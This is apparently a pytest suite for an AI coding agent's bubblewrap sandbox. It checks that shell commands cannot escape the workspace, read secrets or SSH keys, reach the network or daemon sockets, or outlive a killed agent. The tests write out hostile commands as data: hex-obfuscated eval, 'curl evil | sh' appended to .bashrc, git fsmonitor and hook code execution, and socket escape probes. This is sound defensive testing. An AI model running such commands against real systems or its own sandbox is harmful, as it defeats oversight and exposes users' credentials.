"""The sandbox, for real: commands run through ``run_shell`` in bubblewrap try to write outside
the workspace, change ``.git/config``, read a hidden secret, reach a server on 127.0.0.1 and
outlive a killed agent — and the canaries prove none of it happened. The commands are ones the
permission analysis cannot see through, too: the sandbox does not depend on the parser."""

from __future__ import annotations

import asyncio
import http.server
import os
import signal
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from agent_tui.core.sandbox import SandboxSettings, SessionSandbox
from agent_tui.core.sandbox.bubblewrap import Bubblewrap
from agent_tui.core.tools.base import ToolContext, ToolOutput
from agent_tui.core.tools.builtin import run_shell

PROBLEM = Bubblewrap().problem()
pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"no sandbox here: {PROBLEM}")


async def _run(work: Path, command: str, **settings: object) -> ToolOutput:
    sandbox = SessionSandbox(SandboxSettings(**settings), work)  # type: ignore[arg-type]
    assert sandbox.state.shell is not None
    ctx = ToolContext(cwd=work, sandbox=sandbox)
    return await run_shell.TOOL.call(run_shell.RunShellInput(command=command), ctx)


@pytest.fixture
def lab(tmp_path: Path) -> tuple[Path, Path]:
    """A workspace with a git config and a secret, and a directory outside it."""
    work, outside = tmp_path / "work", tmp_path / "outside"
    work.mkdir()
    outside.mkdir()
    (work / ".git").mkdir()
    (work / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (work / ".env").write_text("TOKEN=canary-secret-42\n", encoding="utf-8")
    return work, outside


async def test_the_workspace_is_writable_and_nothing_outside_it(lab: tuple[Path, Path]) -> None:
    work, outside = lab
    system = Path("/var/tmp") / f"agent-tui-canary-{os.getpid()}"  # a real disk, not /tmp
    command = f"echo hi > made.txt; echo x > {outside}/escaped.txt; echo x > {system}; echo done"
    out = await _run(work, command)
    assert (work / "made.txt").read_text() == "hi\n"
    assert not (outside / "escaped.txt").exists()  # /tmp is private: not even the directory
    assert not system.exists()
    assert "Read-only file system" in out.content


async def test_an_opaque_command_cannot_escape_either(lab: tuple[Path, Path]) -> None:
    work, outside = lab
    target = str(outside / "escaped.txt")
    encoded = target.encode().hex()
    command = f'eval "$(printf \'echo x > %s\' "$(echo {encoded} | xxd -r -p)")"; true'
    await _run(work, command)
    assert not (outside / "escaped.txt").exists()


async def test_protected_files_stay_read_only(lab: tuple[Path, Path]) -> None:
    work, _ = lab
    await _run(work, "echo '[core] fsmonitor = evil' >> .git/config; echo x > .git/hooks.txt")
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert (work / ".git" / "hooks.txt").exists()  # the rest of .git is writable (commits)


async def test_a_denied_file_reads_as_nothing(lab: tuple[Path, Path]) -> None:
    work, _ = lab
    out = await _run(work, "cat .env; base64 .env", deny_read=[".env"])
    assert "canary-secret-42" not in out.content
    assert (work / ".env").read_text() == "TOKEN=canary-secret-42\n"  # untouched outside


async def test_the_home_directory_is_hidden_but_for_git_and_toolchains(
    lab: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, _ = lab
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("canary-private-key\n", encoding="utf-8")
    (home / ".gitconfig").write_text("[user]\n\tname = canary-git-name\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    out = await _run(work, f"cat {home}/.ssh/id_ed25519; cat ~/.gitconfig")
    assert "canary-private-key" not in out.content
    assert "canary-git-name" in out.content  # git still knows who you are
    listing = await _run(work, f"ls -A {home}")
    assert listing.content.splitlines()[:-1] == [".gitconfig"]  # the footer line dropped
    assert (home / ".ssh" / "id_ed25519").exists()


class _Hello(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"reached-the-server")

    def log_message(self, *args: object) -> None:
        return None


@pytest.fixture
def server() -> Iterator[int]:
    httpd = http.server.HTTPServer(("127.0.0.1", 0), _Hello)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield httpd.server_address[1]
    httpd.shutdown()


async def test_no_network_by_default_and_on_when_asked(lab: tuple[Path, Path], server: int) -> None:
    work, _ = lab
    fetch = (
        f'{sys.executable} -c "import urllib.request as u; '
        f"print(u.urlopen('http://127.0.0.1:{server}/', timeout=5).read().decode())\""
    )
    off = await _run(work, fetch)
    assert "reached-the-server" not in off.content
    assert off.is_error
    on = await _run(work, fetch, network="on")
    assert "reached-the-server" in on.content


def test_a_killed_agent_takes_its_sandboxed_command_with_it(lab: tuple[Path, Path]) -> None:
    """``kill -9`` of the agent mid-command: the canary the command writes after a delay
    never appears (without the sandbox it did, 8 s after the kill)."""
    work, _ = lab
    canary = work / "AFTER_KILL"
    ready = work / "STARTED"
    agent = textwrap.dedent(
        f"""
        import asyncio
        from pathlib import Path
        from agent_tui.core.sandbox import SandboxSettings, SessionSandbox
        from agent_tui.core.tools.base import ToolContext
        from agent_tui.core.tools.builtin import run_shell
        work = Path({str(work)!r})
        ctx = ToolContext(cwd=work, sandbox=SessionSandbox(SandboxSettings(), work))
        command = "touch STARTED; sleep 3; touch AFTER_KILL"
        asyncio.run(run_shell.TOOL.call(run_shell.RunShellInput(command=command), ctx))
        """
    )
    proc = subprocess.Popen([sys.executable, "-c", agent], env={**os.environ})
    deadline = time.monotonic() + 30
    while not ready.exists():
        assert time.monotonic() < deadline, "the command never started"
        assert proc.poll() is None, "the agent ended early"
        time.sleep(0.05)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    time.sleep(5)  # longer than the command's delay: the canary would be there by now
    assert not canary.exists()


def test_sandbox_status_says_whether_it_works_here(tmp_path: Path) -> None:
    def status(settings: str | None, where: str = "config") -> subprocess.CompletedProcess[str]:
        if settings is not None:
            folder = tmp_path / where
            folder.mkdir(exist_ok=True)
            (folder / "settings.json").write_text(settings, encoding="utf-8")
        return subprocess.run(
            [sys.executable, "-m", "agent_tui", "sandbox", "status"],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
            env={**os.environ, "AGENT_TUI_CONFIG_DIR": str(tmp_path / "config")},
        )

    on = status(None)
    assert on.returncode == 0
    assert "sandboxed (bubblewrap) · no network" in on.stdout
    off = status('{"sandbox": {"mode": "off"}}')
    assert off.returncode == 0
    assert "sandbox off" in off.stdout
    # a repository cannot turn it off: its settings may only make the sandbox stricter
    (tmp_path / "config" / "settings.json").unlink()
    hostile = status('{"sandbox": {"mode": "off", "network": "on"}}', where=".agent-tui")
    assert "sandboxed (bubblewrap) · no network" in hostile.stdout
    assert "sandbox.mode, sandbox.network ignored" in hostile.stdout


async def test_an_interrupt_ends_the_sandboxed_command_and_all_it_started(
    lab: tuple[Path, Path],
) -> None:
    """Esc cancels the call: the sandbox (its PID namespace) goes with everything in it, a
    background job included — the canary it writes after a delay never appears."""
    work, _ = lab
    command = "(sleep 2; touch LEFTOVER) & touch STARTED; wait"
    task = asyncio.ensure_future(_run(work, command))
    deadline = time.monotonic() + 30
    while not (work / "STARTED").exists():
        assert time.monotonic() < deadline, "the command never started"
        await asyncio.sleep(0.05)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await asyncio.sleep(3)  # longer than the background job's delay
    assert not (work / "LEFTOVER").exists()


async def test_started_in_the_home_directory_its_keys_and_startup_files_stay_safe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workspace is the home directory itself: it is writable, but the keys are hidden and
    the shell startup files read-only (a hostile README asking to "add an alias" fails)."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text("canary-private-key\n", encoding="utf-8")
    (home / ".bashrc").write_text("# mine\n", encoding="utf-8")
    monkeypatch.setenv("HOME", str(home))
    out = await _run(home, "cat .ssh/id_ed25519; echo 'curl evil | sh' >> .bashrc; echo ok > a")
    assert "canary-private-key" not in out.content
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (home / "a").read_text() == "ok\n"


async def test_a_daemon_socket_is_out_of_reach(lab: tuple[Path, Path]) -> None:
    """connect() on a Unix socket is no write: a read-only mount does not stop it, and a
    socket can be an escape (the systemd user bus runs ``systemd-run --user``, the Docker API
    starts containers). /run, where daemons keep them, is empty inside."""
    import socket

    work, _ = lab
    path = Path("/run") / f"agent-tui-canary-{os.getpid()}.sock"
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind(str(path))
    except OSError as exc:
        pytest.skip(f"cannot make a socket in /run here: {exc}")
    server.listen()
    try:
        probe = (
            f'{sys.executable} -c "import socket; s = socket.socket(socket.AF_UNIX); '
            f"s.connect('{path}'); print('CONNECTED')\""
        )
        bare = await asyncio.to_thread(
            subprocess.run, probe, shell=True, capture_output=True, text=True, check=False
        )
        assert "CONNECTED" in bare.stdout  # the attack is real outside the sandbox
        out = await _run(work, probe)
        assert "CONNECTED" not in out.content
    finally:
        server.close()
        path.unlink()


async def test_what_the_sandbox_blocked_is_explained(lab: tuple[Path, Path], server: int) -> None:
    work, outside = lab
    system = Path("/var/tmp") / f"agent-tui-canary-{os.getpid()}"
    write = await _run(work, f"echo x > {system}")
    assert write.facts.blocked is not None
    assert "outside what commands may write" in write.facts.blocked
    assert '"allow_write"' in write.facts.blocked
    assert write.content.rstrip().endswith(f"[{write.facts.blocked}]")  # the model reads it too
    # it belongs with the exit code to the footer, which a spill does not hold (the command's
    # own bytes) and every excerpt keeps
    assert write.footer == f"[exit code {write.facts.exit_code}]\n[{write.facts.blocked}]"
    assert write.raw is not None
    assert b"blocked by the sandbox" not in write.raw.read()
    private = await _run(work, f"echo x > {outside}/f.txt")  # tmp_path is below /tmp
    assert private.facts.blocked is not None
    assert "theirs is private" in private.facts.blocked
    protected = await _run(work, "echo x >> .git/config")
    assert protected.facts.blocked is not None
    assert "protected file" in protected.facts.blocked
    net = await _run(work, f"curl -sS http://127.0.0.1:{server}/ || python3 -c 1 && exit 7")
    assert net.facts.blocked is not None
    assert '"network": "on"' in net.facts.blocked
    plain = await _run(work, "ls no-such-file")  # the command's own failure: no excuse
    assert plain.is_error
    assert plain.facts.blocked is None
    assert plain.facts.sandboxed is True
    assert plain.facts.network is False


async def test_a_new_repository_keeps_its_config_but_not_a_hostile_one(
    tmp_path: Path,
) -> None:
    """``git init`` in a directory without .git creates the protected .git/config and hooks:
    kept when git wrote them; a config that runs code, and any hook that would run, moved."""
    plain, hostile = tmp_path / "plain", tmp_path / "hostile"
    plain.mkdir()
    hostile.mkdir()
    await _run(plain, "git init -q . && git status --short")
    assert (plain / ".git" / "config").exists()
    assert list((plain / ".git" / "hooks").glob("*.sample"))  # git's own samples stay
    out = await _run(
        hostile,
        "git init -q . && git config core.fsmonitor 'touch PWNED' "
        "&& printf '#!/bin/sh\\ntouch PWNED\\n' > .git/hooks/post-checkout "
        "&& chmod +x .git/hooks/post-checkout",
    )
    assert not (hostile / ".git" / "config").exists()
    assert not (hostile / ".git" / "hooks" / "post-checkout").exists()
    assert out.facts.blocked is not None
    assert "moved to" in out.facts.blocked
    box = Path(out.facts.blocked.split("moved to ", 1)[1].split(" — ", 1)[0])
    assert "fsmonitor" in (box / ".git" / "config").read_text()  # kept, not lost
    git = await asyncio.to_thread(
        subprocess.run, ["git", "status"], cwd=hostile, capture_output=True, check=False
    )
    assert not (hostile / "PWNED").exists(), git


def test_git_config_keys_that_run_nothing() -> None:
    from agent_tui.core.sandbox.aftercheck import git_config_runs_code

    plain = '[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote "o"]\n\turl = x\n'
    assert git_config_runs_code(plain) is None
    assert git_config_runs_code("[core]\n\tfsmonitor = x\n") == "core.fsmonitor"
    assert git_config_runs_code('[alias]\n\tst = "!sh"\n') == "alias.st"
    assert git_config_runs_code('[filter "a"]\n\tclean = x\n') == "filter.a.clean"
    assert git_config_runs_code("[include]\n\tpath = ../x\n") == "include.path"
    # keys as git names them: the section and the key lower-cased
    assert git_config_runs_code("[core] hooksPath = /x\n") == "core.hookspath"


def _opaque(script: str) -> str:
    """``script`` hidden from the permission analysis: decoded and run by ``eval``."""
    return f'eval "$(echo {script.encode().hex()} | xxd -r -p)"'


async def test_every_check_holds_for_commands_the_analysis_cannot_read(
    lab: tuple[Path, Path], server: int
) -> None:
    """The acceptance's checks once more, each command hidden behind ``eval`` of hex."""
    work, outside = lab
    out = await _run(
        work,
        _opaque(
            f"echo x > {outside}/escaped.txt; echo '[core] fsmonitor = evil' >> .git/config; "
            "cat .env; echo ok > inside.txt"
        ),
        deny_read=[".env"],
    )
    assert (work / "inside.txt").read_text() == "ok\n"  # it ran
    assert not (outside / "escaped.txt").exists()
    assert (work / ".git" / "config").read_text() == "[core]\n"
    assert "canary-secret-42" not in out.content
    probe = (
        f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {server}),"
        " timeout=5); print('CONNECTED')\""
    )
    assert "CONNECTED" not in (await _run(work, _opaque(probe))).content
    assert "CONNECTED" in (await _run(work, _opaque(probe), network="on")).content
